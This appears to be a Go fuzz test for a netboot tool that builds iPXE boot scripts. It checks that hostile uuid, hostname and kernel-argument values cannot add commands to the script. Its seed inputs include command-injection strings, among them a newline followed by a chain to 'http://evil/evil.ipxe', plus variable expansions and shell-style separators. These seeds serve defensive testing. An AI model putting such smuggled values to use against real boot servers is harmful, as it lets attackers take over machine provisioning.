package boot

import (
	"errors"
	"strings"
	"testing"

	"github.com/tinderbox-boot/tinderbox/pkg/machine"
)

// fuzzBase is the netboot FuzzNetbootScript varies: every field the fuzzer
// does not set is fixed, so every line but the kernel line must come out
// byte for byte as in the script of fuzzBase itself.
var fuzzBase = NetbootParams{
	BaseURL: "http://192.0.2.1:8080", MAC: testMAC, UUID: "8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5b", Hostname: "cp-01",
	SchematicID: strings.Repeat("ab", 32), Version: "v1.12.7", Arch: "amd64",
	Cmdline:    "talos.platform=metal console=tty0",
	KernelArgs: []string{"talos.logging.kernel=udp://192.0.2.1:6666"},
	ConfigURL:  "http://192.0.2.1:8080/config/52-54-00-12-34-56?token=0123456789abcdef",
}

// FuzzNetbootScript writes netboot scripts with hostile uuid, hostname,
// profile kernel argument and factory cmdline values, and asserts that any
// script produced is the template's: the same lines as fuzzBase's script
// except the kernel line; a kernel line that iPXE would run as one kernel
// command, with the template's "|| goto failed" as its only separator and
// no comment; kernel arguments of printable ASCII with no "${"; the uuid
// filled in canonical form and the hostname as one word; no CR, NUL or
// line-joining backslash anywhere, and no "${" but the template's own. A
// refusal must be a short *ValueError and no script.
func FuzzNetbootScript(f *testing.F) {
	long := strings.Repeat("a", 500<<10)
	for _, seed := range [][4]string{
		{"8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5b", "cp-01", "console=ttyS0", "talos.platform=metal console=tty0"},
		{"", "", "-console", ""},
		{"x\nchain http://evil/evil.ipxe", "cp-01", "a", "b"},
		{"8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5b", "x\nchain http://evil/evil.ipxe", "a", "b"},
		{"${uuid}", "${hostname}", "${uuid}${hostname}", "${mac}"},
		{"${uuid}", "$", "a=${hostname}{uuid}", "c"},
		{"\r", "cp\r", "a\r", "b\rc"},
		{"\x00", "cp\x00", "a\x00", "b\x00"},
		{long, long, long, long},
		{"8f1b6b2c-3a4d-4e5f-8a9b-0c1d2e3f4a5b", "#", "a", "b"},
		{"", "cp-01", "||", "a && b ; c"},
		{"00000000-0000-0000-0000-000000000000", "cp\\", "a\\", "b \\"},
		{"8F1B6B2C-3A4D-4E5F-8A9B-0C1D2E3F4A5B", "cp\t1", "a\tb", "a\vb\fc"},
	} {
		f.Add(seed[0], seed[1], seed[2], seed[3])
	}
	ref, err := NetbootScript(fuzzBase)
	if err != nil {
		f.Fatal(err)
	}
	refLines := strings.Split(ref, "\n")
	kernelLine := -1
	for i, l := range refLines {
		if strings.HasPrefix(l, "kernel ") {
			kernelLine = i
		}
	}
	assets := "kernel http://192.0.2.1:8080/assets/" + fuzzBase.SchematicID + "/v1.12.7/kernel-amd64 initrd=initramfs-amd64.xz "
	if kernelLine < 0 || !strings.HasPrefix(refLines[kernelLine], assets) {
		f.Fatalf("no kernel line starting %q in\n%s", assets, ref)
	}
	f.Fuzz(func(t *testing.T, uuid, hostname, arg, cmdline string) {
		p := fuzzBase
		p.UUID, p.Hostname, p.Cmdline = uuid, hostname, cmdline
		// arg first: a "-name" in it can remove only factory arguments,
		// so the checks below can find the placeholders' arguments.
		p.KernelArgs = []string{arg, "sys.uuid=${uuid}", "${hostname}", "h=${hostname}.${mac}"}
		s, err := NetbootScript(p)
		if err != nil {
			var ve *ValueError
			if s != "" || !errors.As(err, &ve) || len(err.Error()) > maxErrLen || ve.MAC != testMAC {
				t.Fatalf("refusal: got script %q, error %v (%d bytes); want no script and a short *ValueError for %s", s, err, len(err.Error()), testMAC)
			}
			return
		}
		if strings.ContainsAny(s, "\r\x00") || strings.Count(s, "${") != strings.Count(ref, "${") {
			t.Fatalf("script holds CR, NUL or a \"${\" of its own:\n%q", s)
		}
		lines := strings.Split(s, "\n")
		if len(lines) != len(refLines) {
			t.Fatalf("got %d lines, the template has %d:\n%s", len(lines), len(refLines), s)
		}
		for i, l := range lines {
			if strings.HasSuffix(l, "\\") {
				t.Fatalf("line %d ends in a backslash, which joins the next: %q", i+1, l)
			}
			if i != kernelLine && l != refLines[i] {
				t.Fatalf("line %d is %q, the template's is %q", i+1, l, refLines[i])
			}
		}
		k := lines[kernelLine]
		if !strings.HasPrefix(k, assets) || !strings.HasSuffix(k, " || goto failed") {
			t.Fatalf("kernel line %q: want %q… || goto failed", k, assets)
		}
		// The words as iPXE splits them (isspace: space, \t \n \v \f \r).
		words := strings.FieldsFunc(k, func(r rune) bool { return strings.ContainsRune(" \t\n\v\f\r", r) })
		for i, w := range words {
			terminator := w[0] == '#' || w == "||" || w == "&&" || w == ";"
			if terminator != (i == len(words)-3) {
				t.Fatalf("kernel line %q: word %d %q: iPXE would end the kernel command elsewhere than at the template's ||", k, i, w)
			}
		}
		args := strings.Split(strings.TrimSuffix(strings.TrimPrefix(k, assets), " || goto failed"), " ")
		if len(args) != len(words)-6 {
			t.Fatalf("kernel line %q: %d arguments split on spaces, %d as iPXE splits them", k, len(args), len(words)-6)
		}
		for _, a := range args {
			if a == "" || strings.Contains(a, "${") {
				t.Fatalf("kernel argument %q: empty or holds \"${\"", a)
			}
			for _, c := range []byte(a) {
				if c < '!' || c > '~' {
					t.Fatalf("kernel argument %q holds byte %#x", a, c)
				}
			}
		}
		wantUUID := "sys.uuid="
		if uuid != "" {
			u, err := machine.ParseUUID(uuid)
			if err != nil {
				t.Fatalf("uuid %q is no SMBIOS UUID (%v), yet the script was written", uuid, err)
			}
			wantUUID += u.String()
		}
		for _, want := range []string{wantUUID, hostname, "h=" + hostname + "." + testMAC.String(), "talos.config=" + fuzzBase.ConfigURL} {
			if !strings.Contains(" "+strings.Join(args, " ")+" ", " "+want+" ") {
				t.Fatalf("kernel line %q: no argument %q", k, want)
			}
		}
	})
}
